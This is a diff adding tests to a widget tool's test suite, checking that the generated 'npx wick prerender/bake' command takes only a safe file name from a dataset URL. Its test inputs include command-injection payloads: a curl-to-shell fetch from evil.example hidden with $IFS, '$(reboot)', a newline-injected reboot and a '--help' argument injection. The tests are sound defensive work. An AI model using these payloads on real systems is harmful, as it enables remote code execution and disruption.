@@ -77,6 +77,23 @@ describe.each([['prerendered', card], ['prerendered', fact], ['baked', card], ['
   });
 });
 
+describe.each(['prerendered', 'baked'] as const)('the command for %s HTML, where a link brings the dataset', (kind) => {
+  it.each([
+    ['https://paper.example/films/wardens.v2_1-final.json', 'wardens.v2_1-final.json'],
+    ['https://paper.example/', 'dataset.json'],
+    ['https://evil.example/a;curl$IFS-s$IFS-L$IFSevil.example|sh', 'dataset.json'],
+    ['https://evil.example/$(reboot).json', 'dataset.json'],
+    ['https://evil.example/a%0Areboot', 'dataset.json'],
+    ['https://evil.example/--help', 'dataset.json'],
+  ])('takes from %s only the name of a file', async (src, file) => {
+    const state = readState(`${card}&src=${encodeURIComponent(src)}`);
+    const silent = { ...publisher, prerender: () => Promise.resolve(''), bake: () => Promise.resolve('') };
+    const { steps } = await writeSnippet(kind, { state, trees: widgetTree(state, 'Ballerina'), words: '', src: state.src, publisher: silent, release: { version: '0.1.0', integrity: { 'wick.css': '', 'wick.min.js': '' } } });
+    expect(steps[1]!.code).toMatch(/^npx wick (?:prerender|bake) article\.html -o out\/ (?:--css link )?--dataset [\w.-]+$/);
+    expect(steps[1]!.code.split(' ').at(-1)).toBe(file);
+  });
+});
+
 describe.each([['ballerina/wick-film-card', card], ['ballerina/wick-quote', quote]])('the snippets of an embed, %s', (path, query) => {
   it('frame what the command writes', async () => {
     const [command, frame] = (await snippetOf(query, 'frame')).steps;
